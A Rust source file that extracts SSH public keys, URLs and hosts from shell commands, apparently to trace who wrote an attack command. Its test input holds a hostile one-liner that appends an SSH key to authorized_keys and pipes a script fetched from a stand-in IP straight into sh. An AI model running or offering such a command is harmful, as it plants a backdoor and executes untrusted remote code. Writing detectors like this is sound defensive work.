//! Parts of a command that point to its author: public keys, URLs, hosts.

/// Types of public keys, each followed by the blob in base64.
const KEY_TYPES: [&str; 4] = ["ssh-rsa ", "ssh-ed25519 ", "ssh-dss ", "ecdsa-sha2-nistp"];
/// A blob of a real key has at least this many characters (ed25519: 68).
const SHORTEST_BLOB: usize = 60;
const SCHEMES: [&str; 4] = ["http://", "https://", "ftp://", "tftp://"];
/// Characters that end a URL in a shell.
const ENDS: &[char] =
    &[' ', '\t', '\n', '\r', '"', '\'', ';', '|', '&', ')', '(', '>', '<', '`', '\\', '$', ','];

#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Debug)]
pub enum Indicator<'a> {
    /// The base64 blob of an SSH public key.
    Key(&'a str),
    /// A URL, as typed.
    Url(&'a str),
    /// The host of a URL, without port.
    Host(&'a str),
}

/// Returns public keys, URLs and hosts of a command, in order.
pub fn indicators(command: &str) -> Vec<Indicator<'_>> {
    let mut found = Vec::new();
    for kind in KEY_TYPES {
        for (at, _) in command.match_indices(kind) {
            let rest = &command[at + kind.len()..];
            // ecdsa-sha2-nistp256 and similar types have the size between type and blob.
            let rest = if kind.ends_with('p') {
                rest.trim_start_matches(|c: char| c.is_ascii_digit()).trim_start_matches(' ')
            } else {
                rest
            };
            let end = rest
                .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=')))
                .unwrap_or(rest.len());
            if end >= SHORTEST_BLOB {
                found.push(Indicator::Key(&rest[..end]));
            }
        }
    }
    for scheme in SCHEMES {
        let mut end = 0;
        for (at, _) in command.match_indices(scheme) {
            // A URL within a URL ends at the same place, so each character is read once, however many URLs
            // there are.
            if at >= end {
                end = command[at..].find(ENDS).map_or(command.len(), |length| at + length);
            }
            let url = &command[at..end];
            if let Some(host) = host(url) {
                found.push(Indicator::Url(url));
                found.push(Indicator::Host(host));
            }
        }
    }
    found
}

/// Returns the host of a URL, without user and port.
pub fn host(url: &str) -> Option<&str> {
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = match host.strip_prefix('[') {
        Some(v6) => v6.split(']').next()?,
        None => host.split(':').next()?,
    };
    (!host.is_empty()).then_some(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn authors_are_named_by_keys_links_and_hosts() {
        let blob = "A".repeat(68);
        let command = format!(
            "echo \"ssh-ed25519 {blob} me@x\" >> ~/.ssh/authorized_keys; wget http://u:p@203.0.113.7:8080/a.sh -O- | sh"
        );
        assert_eq!(
            indicators(&command),
            [
                Indicator::Key(blob.as_str()),
                Indicator::Url("http://u:p@203.0.113.7:8080/a.sh"),
                Indicator::Host("203.0.113.7")
            ]
        );
        assert_eq!(indicators(&format!("ecdsa-sha2-nistp256 {blob}")), [Indicator::Key(blob.as_str())]);
        assert_eq!(indicators("ssh-rsa AAAA; http:// x; https://"), []);
        assert_eq!(host("http://[2001:db8::1]:80/x"), Some("2001:db8::1"));
    }
}
